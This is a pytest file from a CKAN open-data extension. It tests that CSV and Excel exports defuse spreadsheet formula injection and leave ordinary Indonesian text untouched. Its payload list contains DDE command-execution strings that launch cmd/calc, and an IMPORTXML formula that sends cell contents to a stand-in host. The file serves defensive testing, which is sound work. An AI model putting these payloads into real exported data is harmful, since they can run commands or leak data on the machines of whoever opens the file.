"""What a spreadsheet would compute, told alike by the check and by every way out; no service needed."""

import ast
import csv
import io
import re
from pathlib import Path

import duckdb
import openpyxl
import pytest
from ckanext.satudata import tables
from ckanext.satudata.publishing import dump
from ckanext.satudata.tables import formulas, outlets
from ckanext.satudata.tables.table import literal

COMPUTED = [
    "=1+1",
    "= 1 + 1",
    "=\n1+1",
    "\t=1+1",
    " =A1",
    "\r\n=1",
    "\ufeff=1",
    "\u200b=1+1",
    "\u00a0=A1",
    "＝1+1",
    "=-1",
    '="x"',
    '=HYPERLINK("http://x.example","y")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)",
    "@\tSUM(1)",
    "@SUM(A1)*cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "+\ncmd|'/C calc'!A0",
    "+\u00a0cmd|'/C calc'!A0",
    "+\x00cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1",
    "-1+cmd(2)",
    "+cmd(2)",
    "+A1",
    "-A1+B1",
    "+SUM(1,2)",
    "-@SUM(1,2)",
    "-SUM(A1:A2)",
    '- HYPERLINK("http://x.example","y")',
    "+Sheet1!A1",
    "+'[x.xlsx]S'!A1",
    "-1+2",
    "--1+2",
    "-1*2",
    "-(1+2)",
    "-\n1+1",
    '+IMPORTXML(CONCAT("http://x.example",A1),"//a")',
]
TEXTS = [
    "",
    "-",
    "--",
    "- lain-lain",
    "- Belanja pegawai (gaji pokok)",
    "-1 orang bernama Contoh Nama(teknisi)",
    "- Laki-laki (L)",
    "-Laki-laki(L)",
    "- T(tidak)",
    "- Call (pusat)",
    "- L+P",
    "- 1 + 2 orang",
    "- Siswa | Guru!",
    "- Awas! B1",
    "- 12-15 tahun",
    "+ Tambahan (baru)",
    "+62 361 22113",
    "+62-361-22113",
    "(+62)361",
    "-5",
    "-5,5",
    "-5.000.000",
    "-Rp 5.000",
    "-5 °C",
    "-1-2",
    "-1/2",
    "+/- 5",
    "-8.1631294915, 115.1546976398",
    "@pemkabbuleleng",
    "@dinas (resmi)",
    "x@y.go.id",
    "a=b",
    "=",
    "=>",
    "==== Jumlah ====",
    "'=1+1",
]


@pytest.mark.parametrize("text", COMPUTED)
def test_what_a_spreadsheet_computes_is_made_harmless(text):
    """It gets an apostrophe and is computed no more; the sign is taken away again; DuckDB lets it through to us."""
    assert formulas.is_formula(text)
    written = formulas.harmless(text)
    assert written != text
    assert not formulas.is_formula(written)
    assert duckdb.execute(f"SELECT regexp_matches({literal(text)}, {literal(formulas.SUSPECT)})").fetchone() == (True,)


def test_the_sign_is_taken_away_again():
    """What came out comes in as it was."""
    assert formulas.restored(formulas.harmless("=1+1")) == "=1+1"
    assert formulas.restored("'kutip") == "'kutip"


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_go_out_as_they_are(text):
    """List marks, numbers, telephones, accounts: nothing is changed that no spreadsheet would compute."""
    assert not formulas.is_formula(text)
    assert formulas.harmless(text) == text


def test_a_reader_with_another_separator_finds_no_formula():
    """Excel in Indonesia takes semicolons between cells, and a line break ends its row: a cell follows each."""
    assert formulas.harmless("a;=1+1") == "a;'=1+1"
    assert formulas.harmless("a\n+cmd|'/C calc'!A0\n- catatan") == "a\n'+cmd|'/C calc'!A0\n- catatan"


def test_writer_guards_headers_and_cells():
    """A column's title is a cell as well; figures stay figures."""
    stream = io.StringIO()
    outlets.CsvWriter(stream, lineterminator="\n").writerows([["=1+1", "n"], ["+cmd|'/C calc'!A0", -5], ["- a", None]])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["'=1+1", "n"],
        ["'+cmd|'/C calc'!A0", "-5"],
        ["- a", ""],
    ]


def test_cells_of_a_workbook_are_texts():
    """A text that begins with = is no formula, whichever way of XlsxWriter wrote it."""
    stream = io.BytesIO()
    with outlets.workbook(stream, in_memory=True, strings_to_formulas=True) as book:
        sheet = book.add_worksheet()
        for row, text in enumerate(["=1+1", "{=1+1}", "https://x.example", "0812"]):
            sheet.write(row, 0, text)
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active.iter_rows()]
    assert [(cell.value, cell.data_type, cell.hyperlink) for cell in cells] == [
        ("=1+1", "s", None) if cell.row == 1 else (cell.value, "s", None) for cell in cells
    ]
    assert [cell.value for cell in cells][1:] == ["{=1+1}", "https://x.example", "0812"]


@pytest.mark.parametrize("cut", [1, 3, 1000])
def test_the_dump_of_the_datastore_is_harmless(cut):
    """CKAN's own CSV is written again as it streams: mark, quotes and line breaks stay, wherever the pieces end."""
    rows = [["_id", "=1+1"], ["1", "@SUM(A1)"], ["2", 'baris\nbaru; "kutip" é'], ["3", "- catatan"]]
    stream = io.StringIO()
    csv.writer(stream).writerows(rows)
    content = ("\ufeff" + stream.getvalue()).encode()
    pieces = [content[start : start + cut] for start in range(0, len(content), cut)]
    written = b"".join(dump.rewritten(pieces, "csv", numbered=True)).decode()
    assert written.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(written[1:], newline=""))) == [
        ["_id", "'=1+1"],
        ["1", "'@SUM(A1)"],
        *rows[2:],
    ]


# they write what our own programs read again, or what tests and the demonstration need
INSIDE = re.compile(
    r"^(?:tables/(?!outlets)|harvest/tables|demo/|personal/measuring/|publishing/dump|review/combining)"
)


def test_every_way_out_goes_through_one_door():
    """No module writes a CSV or a workbook for people but by `tables.outlets`."""
    package = Path(tables.__file__).parents[1]
    others = []
    for path in package.rglob("*.py"):
        name = path.relative_to(package).as_posix()
        calls = {
            ast.unparse(node.func) for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)
        }
        writers = {"csv.writer", "csv.DictWriter", "xlsxwriter.Workbook", "Workbook", "openpyxl.Workbook"}
        if calls & writers and name != "tables/outlets.py" and not INSIDE.match(name):
            others.append(name)
    assert others == []
